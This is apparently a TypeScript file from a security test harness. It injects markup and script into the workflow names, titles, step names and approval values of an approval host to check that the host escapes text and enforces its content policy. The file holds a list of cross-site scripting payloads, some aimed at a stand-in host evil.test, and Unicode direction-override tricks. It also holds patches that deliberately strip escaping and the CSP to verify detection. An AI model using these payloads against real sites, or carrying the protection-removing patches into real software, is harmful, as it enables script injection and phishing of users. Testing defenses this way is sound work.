import { type Mechanism, type Patch, tryEach } from '../../frame/mechanism.ts';
import type { AttackedHost } from '../../target/attacked-host.ts';
import { asOwner } from '../../target/owner.ts';
import { type Payment, startPayment } from '../../target/runs.ts';
import { PLACES as TEXT } from '../approvals/places.ts';

export const ESCAPED: Patch = {
  module: 'node_modules/preact-render-to-string/dist/index.mjs',
  // The characters that are escaped.
  find: '/["&<]/',
  replace: '/[^\\s\\S]/',
};

const CLEANED: Patch = {
  module: 'adapters/owner-pages/dist/markup/jsx-runtime.js',
  find: 'return cleanText(String(content), MAX_TEXT);',
  replace: 'return String(content);',
};

/** Each would become markup in another place if it were not text. */
export const PAYLOADS: readonly string[] = [
  '<script>pwned=1</script>',
  '<img src=x onerror=pwned=1>',
  '"><svg onload=pwned=1>',
  "'><a href='javascript:pwned=1'>x</a>",
  '</q></blockquote><form action=//evil.test><button>Approve</button>',
  '<meta http-equiv=refresh content=0;//evil.test>',
  '<base href=//evil.test>',
  '<style>*{display:none}</style>',
  '--><script>pwned=1</script><!--',
  '<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;">',
];

const SLOTS: readonly (readonly [name: string, words: string, make: (text: string) => Payment])[] = [
  ['workflow-name', 'the name of a workflow', (name) => ({ name })],
  ['workflow-title', 'the words that a workflow asks with', (title) => ({ title })],
  ['step-name', 'the name of a step', (nodeName) => ({ nodeName })],
  ['value', 'a value that is to be approved', (value) => ({ arguments: { path: 'note', value } })],
];

/** All pages without scripts that show something of a run. */
async function pagesOf(
  host: AttackedHost,
  owner: Parameters<typeof asOwner>[0],
  runId: string,
): Promise<string> {
  const paths = ['/plain', `/approve/${runId}/pay`, `/plain/runs/${runId}`, `/approve/${runId}/pay?values=0`];
  const pages = await Promise.all(paths.map((path) => asOwner(owner, path)));
  await host.call(`/v1/runs/${runId}/cancel`, {});
  return pages.map(({ text }) => text).join('\n');
}

export const IN_PAGES: readonly Mechanism[] = [
  ...SLOTS.map(
    ([name, words, make]): Mechanism => ({
      id: `injection/markup-in-${name}`,
      does: `Puts markup and script into ${words}.`,
      guard: 'Every text is escaped where it is put into markup.',
      off: [ESCAPED],
      async attack(target) {
        const [host, owner] = [await target.host(), await target.owner()];
        return tryEach(
          PAYLOADS.map((payload) => [payload, payload] as const),
          async (payload) => {
            const runId = await startPayment(host, make(payload));
            const markup = await pagesOf(host, owner, runId);
            return markup.includes(payload);
          },
        );
      },
    }),
  ),
  {
    id: 'injection/reordered-sentence',
    does: 'Turns the reading direction round in a name, so that a sentence of the host reads as another.',
    guard: 'Characters that steer text are taken out of sentences or shown by their number.',
    off: [CLEANED, TEXT.unseen],
    async attack(target) {
      const [host, owner] = [await target.host(), await target.owner()];
      const marks = ['\u202e', '\u202d', '\u2066', '\u2067', '\u200f'];
      return tryEach(
        marks.map((mark) => [`U+${mark.charCodeAt(0).toString(16)}`, mark] as const),
        async (mark) => {
          const runId = await startPayment(host, { name: `Pay ${mark}ecila`, nodeName: `Step ${mark}x` });
          return (await pagesOf(host, owner, runId)).includes(mark);
        },
      );
    },
  },
  {
    id: 'injection/script-runs',
    does: 'Has a script of a value run in the owner’s browser.',
    guard: 'Text is escaped, and the policy of the pages allows no script.',
    off: [
      ESCAPED,
      {
        module: 'adapters/host-http/dist/owner/headers.js',
        find: "\"default-src 'none'; style-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'\"",
        replace: '"default-src * \'unsafe-inline\'"',
      },
    ],
    needsBrowser: true,
    async attack(target) {
      const [host, owner] = [await target.host(), await target.owner()];
      const context = await (await target.browser()).newContext({ extraHTTPHeaders: {} });
      const [name = '', value = ''] = owner.cookie.split('=');
      await context.addCookies([{ name, value, url: `${owner.address}/` }]);
      const page = await context.newPage();
      const attempts = await tryEach(
        PAYLOADS.map((payload) => [payload, payload] as const),
        async (payload) => {
          const runId = await startPayment(host, {
            arguments: { path: 'note', value: payload },
            name: payload,
          });
          await page.goto(`${owner.address}/approve/${runId}/pay`);
          // A page that was left because of the payload can not be asked any more.
          const ran = await page.evaluate('globalThis.pwned === 1').catch(() => true);
          await host.call(`/v1/runs/${runId}/cancel`, {});
          return ran === true;
        },
      );
      await context.close();
      return attempts;
    },
  },
];
